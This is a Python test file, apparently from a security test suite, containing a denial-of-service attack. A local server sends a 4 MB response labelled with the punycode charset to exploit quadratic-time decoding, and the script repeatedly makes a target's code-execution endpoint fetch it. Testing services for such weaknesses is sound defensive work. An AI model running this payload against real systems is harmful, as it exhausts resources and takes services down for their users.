"""Replies of an API in `punycode`, whose decoder takes quadratic time."""

import asyncio

from tests.hold.target import Target, again_and_again

ITEM = 13
HTTP = "tools: {hostile: ['*'], honest: ['*']}"
TOOLS = "fetch: {hosts: [127.0.0.1]}"
_BODY = b"a" * (4 << 20)
_HEAD = f"HTTP/1.1 200 OK\r\nContent-Type: text/plain; charset=punycode\r\nContent-Length: {len(_BODY)}\r\n\r\n"


async def attack(target: Target) -> None:
    async with await asyncio.start_server(_serve, "127.0.0.1", 0) as server, target.client() as client:
        port = server.sockets[0].getsockname()[1]
        body = {"code": f"len((await fetch(url='http://127.0.0.1:{port}/'))['body'])", "tools": [], "timeout": 5000}

        async def once(_: int) -> None:
            answer = await client.post("/exec/programmatic", json=body)
            if "no tool" in answer.text:
                raise SystemExit("the server has no tool to attack with")

        await again_and_again(2, once)


async def _serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        while await reader.readuntil(b"\r\n\r\n"):
            writer.write(_HEAD.encode() + _BODY)
            await writer.drain()
    except (OSError, asyncio.IncompleteReadError):
        writer.close()
